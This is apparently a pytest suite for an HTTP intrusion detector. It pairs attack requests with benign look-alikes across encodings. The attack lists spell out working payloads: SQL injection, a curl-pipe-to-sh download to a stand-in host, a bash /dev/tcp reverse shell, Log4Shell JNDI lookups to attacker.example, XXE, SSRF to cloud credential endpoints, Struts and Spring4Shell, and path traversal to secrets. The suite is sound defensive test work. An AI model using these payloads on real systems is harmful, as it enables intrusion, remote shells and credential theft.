"""HTTP detections: each attack class, positive and benign look-alike, in every request location and encoding."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest

from kubeguard.net.detect.http import inspect_http_request
from kubeguard.net.types import HttpRequest

BROWSER = [
    ("Host", "shop.example.com"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"),
    ("Accept-Language", "en-US,en;q=0.9"),
    ("Accept-Encoding", "gzip, deflate, br"),
    ("Referer", "https://shop.example.com/search?q=red+shoes&page=2"),
    ("Cookie", "session=4f9a8b7c6d5e; theme=dark; consent=yes"),
]


def get(uri: str, *headers: tuple[str, str]) -> HttpRequest:
    return HttpRequest("GET", uri, headers=[*BROWSER, *headers])


def post(body: bytes | str, ctype: str, uri: str = "/api", *headers: tuple[str, str]) -> HttpRequest:
    raw = body.encode() if isinstance(body, str) else body
    return HttpRequest("POST", uri, headers=[*BROWSER, ("Content-Type", ctype), *headers], body=raw,
                       content_length=[str(len(raw))])


def rules(req: HttpRequest) -> set[str]:
    return {d.rule for d in inspect_http_request(req)}


SQLI = "HTTP SQL injection"
CMDI = "HTTP command injection"
CODE = "HTTP code injection"
XXE = "HTTP XML external entity (XXE)"
TRAVERSAL = "HTTP path traversal"
LOG4SHELL = "HTTP Log4Shell JNDI lookup"
SSRF = "HTTP SSRF to cloud metadata"
OGNL = "HTTP Struts OGNL injection"
SPRING = "HTTP Spring4Shell class loader manipulation"
SMUGGLING = "HTTP request smuggling"
BAD_LENGTH = "HTTP invalid content length"

ATTACKS = [
    (SQLI, get("/item?id=1%27%20or%201=1--")),
    (SQLI, get("/item?id=1+UNION+ALL+SELECT+username,password+FROM+users--")),
    (SQLI, get("/item?id=%2531%2527%2520or%2520%2527a%2527%253D%2527a")),  # double URL encoding
    (SQLI, get("/item?id=1%u0027%u0020or%u0020sleep(5)%23")),  # IIS %u encoding
    (SQLI, get("/item", ("Cookie", "uid=1%27%20AND%20extractvalue(1,concat(0x7e,version()))--%20"))),
    (SQLI, post('{"user": "admin\' --", "pass": "x"}', "application/json", "/login")),
    (SQLI, post("name=x&id=1;+DROP+TABLE+users--", "application/x-www-form-urlencoded")),
    (SQLI, post("<q><id>1&#39; or &#39;1&#39;=&#39;1</id></q>", "application/xml")),  # HTML entities
    (CMDI, get("/ping?host=127.0.0.1;cat%20/etc/passwd")),
    (CMDI, get("/ping?host=127.0.0.1%7Cid")),
    (CMDI, get("/ping?host=$(whoami)")),
    (CMDI, post('{"job": {"cmd": "curl -s http://x.example/a.sh | sh"}}', "application/json")),
    (CMDI, post("<run><arg>bash -i &gt;&amp; /dev/tcp/10.1.2.3/4444 0&gt;&amp;1</arg></run>", "text/xml")),
    (CMDI, get("/cgi-bin/status", ("User-Agent", "() { :; }; /bin/bash -c 'id'"))),
    (CMDI, get("/ping?host=x%26net%20user")),
    (CMDI, get("/ping?host=x%5Cnid%5Cn")),  # a literal backslash-n separator
    (CODE, get("/page?name=%7B%7B7*7%7D%7D")),
    (CODE, post("tpl=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+%3F%3E", "application/x-www-form-urlencoded")),
    (CODE, post('{"comment": "<!--#exec cmd=\\"id\\"-->"}', "application/json")),
    (XXE, post('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
               "application/xml")),
    (XXE, post('<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><d/>', "application/soap+xml")),
    (TRAVERSAL, get("/download?file=../../../../etc/passwd")),
    (TRAVERSAL, get("/download?file=..%252f..%252f..%252fetc%252fshadow")),  # double encoded
    (TRAVERSAL, get("/static/%2e%2e/%2e%2e/%2e%2e/var/run/secrets/kubernetes.io/serviceaccount/token")),
    (TRAVERSAL, get("/page?inc=php://filter/convert.base64-encode/resource=index")),
    (TRAVERSAL, get("/file?name=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")),  # overlong UTF-8
    (TRAVERSAL, get("/file?name=....//....//....//etc/passwd")),
    (SQLI, get("/q?s=%26%2339%3B%20or%20%26%2339%3B1%26%2339%3B%3D%26%2339%3B1")),  # URL + HTML entity layers
    (SQLI, post(b'{"a": {"b": [{"c": "\\u0027 or 1=1--"}]}}', "application/json")),  # JSON unicode escape
    (SSRF, get("/fetch?url=http://%31%36%39.%32%35%34.%31%36%39.%32%35%34/")),
    (SSRF, get("/fetch?url=http://example.com@169.254.169.254/")),
    (SSRF, get("/fetch?url=http://0x00a9.254.0251.0xfe/")),
    (SSRF, get("/fetch?url=http://169.254.169.254.nip.io/")),
    (TRAVERSAL, get("/view?f=..\\..\\..\\windows\\win.ini")),
    (LOG4SHELL, get("/", ("X-Api-Version", "${jndi:ldap://attacker.example/a}"))),
    (LOG4SHELL, get("/", ("User-Agent", "${${lower:j}ndi:${lower:l}dap://x.example/a}"))),
    (LOG4SHELL, get("/?q=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7D%24%7B%3A%3A-d%7D%24%7B%3A%3A-i%7D%3Armi%3A//x/a%7D")),
    (LOG4SHELL, post('{"name": "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x.example/a}"}', "application/json")),
    (SSRF, get("/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/")),
    (SSRF, get("/fetch?url=http://2852039166/latest/")),
    (SSRF, get("/fetch?url=http://0xa9fea9fe/")),
    (SSRF, get("/fetch?url=http://0251.0376.0251.0376/")),
    (SSRF, get("/fetch?url=http://169.254.43518/")),
    (SSRF, get("/fetch?url=http://[::ffff:a9fe:a9fe]/")),
    (SSRF, get("/fetch?url=http://[fd00:ec2::254]/latest/")),
    (SSRF, post('{"webhook": "http://metadata.google.internal/computeMetadata/v1/"}', "application/json")),
    (SSRF, get("/fetch?url=http%3A%2F%2Fuser%40169.254.169.254%3A80%2F")),
    (OGNL, get("/index.action", ("Content-Type", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"))),
    (OGNL, get("/login.action?redirect:${%23a%3dnew%20java.lang.ProcessBuilder({'id'}).start()}")),
    (SPRING, get("/app?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")),
    (SPRING, post("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
                  "application/x-www-form-urlencoded")),
]


@pytest.mark.parametrize(("rule", "req"), ATTACKS, ids=[f"{r}-{i}" for i, (r, _) in enumerate(ATTACKS)])
def test_attack_detected(rule: str, req: HttpRequest) -> None:
    assert rule in rules(req)


BENIGN = [
    get("/search?q=please+select+your+size"),
    get("/people?name=O%27Brien&city=N%27Djamena"),
    get("/static/img/../css/site.css"),
    get("/docs?page=..%2Fintro"),
    get("/blog?title=Tom+%26+Jerry+(1940)&tag=rock%20%27n%27%20roll"),
    get("/calc?expr=1+%2B+2+%3D+3"),
    get("/api?color=%23ffffff&list=a,b,c"),
    get("/go?next=https%3A%2F%2Fexample.com%2Fcart%3Fitem%3D3"),
    get("/ip?addr=10.0.0.12&mask=255.255.255.0"),
    get("/shell?topic=how+to+use+bash+and+curl"),
    post('{"template": "Hello ${name}, your order ${order.id} ships ${date}", "n": 3}', "application/json"),
    post('{"comment": "I\'d drop by, or maybe not -- see you at union station"}', "application/json"),
    post("<order><item sku=\"A-1\">2</item><note>Leave at door; ring bell</note></order>", "application/xml"),
    post("user=alice&comment=Let%27s+meet+at+5+o%27clock", "application/x-www-form-urlencoded"),
    post('{"description": "Order #12345 (2 items) - shipped; tracking: 1Z999AA10123456784"}', "application/json"),
    post('{"note": "Use && or || in bash; see the man page", "size": "6\' 2\""}', "application/json"),
    get("/menu?item=%D7%91%D7%95%D7%A8%D7%92%D7%A8%20(120%20%D7%92%D7%A8%27)"),  # Hebrew, gram abbreviation
    get("/", ("If-None-Match", 'W/"5e-1a2b3c"'), ("Range", "bytes=0-1023"),
        ("Sec-CH-UA", '"Not_A Brand";v="8", "Chromium";v="120"'), ("X-Forwarded-For", "203.0.113.7, 10.0.0.1")),
    HttpRequest("GET", "/", headers=[*BROWSER, ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln")]),
]


@pytest.mark.parametrize("req", BENIGN, ids=[r.uri[:40] + str(i) for i, r in enumerate(BENIGN)])
def test_benign_lookalike_not_flagged(req: HttpRequest) -> None:
    assert inspect_http_request(req) == []


def test_multipart_declared_base64_part_and_filename() -> None:
    payload = base64.b64encode(b"1' UNION SELECT password FROM users-- ").decode()
    body = (
        "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{payload}\r\n--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../../root/.ssh/id_rsa\""
        "\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n"
    )
    found = inspect_http_request(post(body, "multipart/form-data; boundary=XyZ"))
    by_rule = {d.rule: d for d in found}
    assert SQLI in by_rule and "(base64)" in by_rule[SQLI].evidence
    assert TRAVERSAL in by_rule and "filename" in by_rule[TRAVERSAL].evidence


@pytest.mark.parametrize("name", ["shell.php", "x.PHTML", "a.php5", "b.phar", "c.php...", "d.pht"])
def test_an_uploaded_php_script_is_code_injection(name: str) -> None:
    """A PHP script's name on an upload (a multipart filename, an X-Filename header) is flagged; the same name as a
    query value (a link to a page) is not."""
    body = (f"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n"
            "Content-Type: application/octet-stream\r\n\r\nhello\r\n--XyZ--\r\n")
    found = {d.rule: d for d in inspect_http_request(post(body, "multipart/form-data; boundary=XyZ"))}
    assert CODE in found and found[CODE].fields["http.location"] == "body part f filename", found
    for header in ("X-Filename", "X-File-Name"):
        found = {d.rule: d for d in inspect_http_request(post(b"hello", "application/octet-stream", "/up",
                                                              (header, name)))}
        assert CODE in found and header in found[CODE].evidence, (header, found)
    if not name.endswith("."):
        assert CODE not in {d.rule for d in inspect_http_request(get(f"/?page={quote(name)}"))}


@pytest.mark.parametrize("name", ["report.pdf", "photo.php.jpg", "notes.txt", "php.ini.txt"])
def test_other_uploads_are_not_php_scripts(name: str) -> None:
    body = (f"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n"
            "Content-Type: application/octet-stream\r\n\r\nhello\r\n--XyZ--\r\n")
    assert CODE not in {d.rule for d in inspect_http_request(post(body, "multipart/form-data; boundary=XyZ"))}
    assert CODE not in {d.rule for d in inspect_http_request(post(b"x", "text/plain", "/up", ("X-Filename", name)))}


def test_whole_value_base64_text_is_inspected() -> None:
    """A value that is entirely base64 of text (a Node.js payload an application decodes) is inspected as that
    text too; base64-shaped words, hex ids and binary tokens are not decoded."""
    node = base64.b64encode(b'require("child_process").exec("id")').decode()
    hits = [d for d in inspect_http_request(get("/a?data=" + quote(node))) if d.rule == CODE]
    assert hits and "(base64)" in hits[0].fields["http.location"]
    benign = base64.b64encode(b"a perfectly ordinary sentence here").decode()
    binary = base64.b64encode(bytes(range(200, 248))).decode()
    for value in (benign, binary, "computeResources", "7fc88d5072a376907c3ada8171a650867447c297"):
        assert not rules(get("/a?data=" + quote(value))), value
        assert not rules(post(f'{{"{value}": "{value}"}}', "application/json")), value


def test_data_uri_base64_is_decoded() -> None:
    inner = base64.b64encode(b"${jndi:ldap://x.example/a}").decode()
    assert LOG4SHELL in rules(get("/img?src=" + quote(f"data:text/plain;base64,{inner}")))


def test_cloud_metadata_host_header() -> None:
    req = HttpRequest("GET", "/latest/meta-data/iam/security-credentials/", headers=[("Host", "169.254.169.254")])
    found = inspect_http_request(req)
    assert [d.rule for d in found] == ["HTTP request to cloud metadata API"]
    assert "T1552.005" in found[0].mitre


@pytest.mark.parametrize(
    ("cl", "te", "rule"),
    [
        (["5"], ["chunked"], SMUGGLING),
        (["5", "7"], [], SMUGGLING),
        ([], ["chunked, identity"], SMUGGLING),
        ([], ["xchunked"], SMUGGLING),
        ([], ["chunked", "chunked"], SMUGGLING),
        (["-1"], [], BAD_LENGTH),
        (["99999999999999"], [], BAD_LENGTH),
        (["12abc"], [], BAD_LENGTH),
    ],
)
def test_framing_attacks(cl: list[str], te: list[str], rule: str) -> None:
    req = HttpRequest("POST", "/", headers=[("Host", "a")], content_length=cl, transfer_encoding=te)
    assert rule in rules(req)


def test_sane_framing_not_flagged() -> None:
    assert rules(HttpRequest("POST", "/", content_length=["5", "5"], body=b"hello")) == set()
    assert rules(HttpRequest("POST", "/", transfer_encoding=["chunked"], body=b"hello")) == set()


def test_one_detection_per_rule_with_hit_count_and_attack_ids() -> None:
    found = inspect_http_request(get("/x?a=1%27%20or%201=1--&b=2%27%20or%202=2--"))
    assert len(found) == 1
    det = found[0]
    assert det.rule == SQLI and det.fields["http.hits"] == 2 and det.mitre == ("T1190",)
    assert det.evidence.startswith("query a:")


def test_secrets_masked_in_evidence() -> None:
    req = get("/login?user=admin%27--&password=hunter2secret&token=abcd1234",
              ("Authorization", "Basic " + base64.b64encode(b"admin' OR 1=1--:s3cr3tpass").decode()))
    found = inspect_http_request(req)
    text = " ".join(d.evidence + str(d.fields) for d in found)
    assert found
    assert "hunter2secret" not in text and "abcd1234" not in text and "s3cr3tpass" not in text


# #12 part 2, path traversal families CRS catches: ./ padding, sensitive files named directly,
# Windows drive paths, a null byte cutting off an appended extension.
TRAVERSAL_MORE = [
    get("/view?file=./././etc/passwd"),
    get("/view?file=.htaccess"),
    get("/view?file=web.config"),
    get("/view?file=..%2f..%2fwindows%2fwin.ini"),
    get("/view?file=C:%5Cboot.ini"),
    get("/view?file=c:/windows/system32/drivers/etc/hosts"),
    get("/view?page=shell.php%00.jpg"),
]
TRAVERSAL_NEAR_MISS = [
    get("/view?file=./report.pdf"),
    get("/help?q=how+to+edit+.htaccess+rewrite+rules"),
    get("/docs?page=web.config.transform+guide"),
    get("/files?path=C%3A%2FProjects%2Fsite%2Findex.html"),
    get("/view?file=photos%2Fwindow.jpg"),
]


@pytest.mark.parametrize("req", TRAVERSAL_MORE, ids=[r.uri for r in TRAVERSAL_MORE])
def test_traversal_families_detected(req: HttpRequest) -> None:
    assert TRAVERSAL in rules(req)


@pytest.mark.parametrize("req", TRAVERSAL_NEAR_MISS, ids=[r.uri for r in TRAVERSAL_NEAR_MISS])
def test_traversal_near_misses_not_flagged(req: HttpRequest) -> None:
    assert TRAVERSAL not in rules(req)


CMDI = "HTTP command injection"
WINDOWS_CMDI = [
    get("/ping?host=127.0.0.1%7Cdir"),
    get("/ping?host=127.0.0.1+%26+net+user"),
    get("/ping?host=x%26%26type+C:%5Cboot.ini"),
    get("/ping?host=x%7Creg+query+HKLM%5CSoftware"),
    get("/ping?host=x%3Bnetsh+firewall+show+state"),
    get("/ping?host=x%7Ctasklist"),
]
WINDOWS_CMDI_NEAR_MISS = [
    get("/search?q=R%26D+department+network"),
    get("/search?q=salt+%26+type+of+pepper"),
    get("/search?q=Tom+%26+net+profit+2024"),
    get("/search?q=the+dir+command+lists+files"),
]


@pytest.mark.parametrize("req", WINDOWS_CMDI, ids=[r.uri for r in WINDOWS_CMDI])
def test_windows_command_injection_detected(req: HttpRequest) -> None:
    assert CMDI in rules(req)


@pytest.mark.parametrize("req", WINDOWS_CMDI_NEAR_MISS, ids=[r.uri for r in WINDOWS_CMDI_NEAR_MISS])
def test_windows_command_near_misses_not_flagged(req: HttpRequest) -> None:
    assert CMDI not in rules(req)


TEMPLATE = "HTTP template syntax"
TEMPLATE_TAGS = [
    "{% for user in users %}", "{%- set x = y -%}", "{% endblock %}", "{%csrf_token%}", "<% items.each %>",
    "<%= user.name %>", "{{#each items}}", "{{/with}}", "{{^empty}}", "{{> header}}", "{{~#if admin~}}",
]
TEMPLATE_NEAR_MISSES = [
    "Hello {{ first_name }}", "{{count}} items", "50{%} off", "save 20% {on} all", "a <% b", "100%}", "{% %}",
    "{%20}", "x <%> y", "{{#}}", "{{ a }}/{{ b }}", "Total: ${total}", "progress {%d%%}",
]


@pytest.mark.parametrize("value", TEMPLATE_TAGS)
def test_template_statement_tags_are_their_own_medium_rule(value: str) -> None:
    found = {d.rule: d for d in inspect_http_request(get("/page?tpl=" + quote(value)))}
    assert TEMPLATE in found and found[TEMPLATE].severity.name == "MEDIUM", value
    assert CODE not in found  # syntax alone runs no code: not code injection (CRITICAL)
    body = {d.rule for d in inspect_http_request(post(json.dumps({"tpl": value}), "application/json"))}
    assert TEMPLATE in body


@pytest.mark.parametrize("value", TEMPLATE_NEAR_MISSES)
def test_template_near_misses_not_flagged(value: str) -> None:
    assert TEMPLATE not in rules(get("/page?q=" + quote(value)))
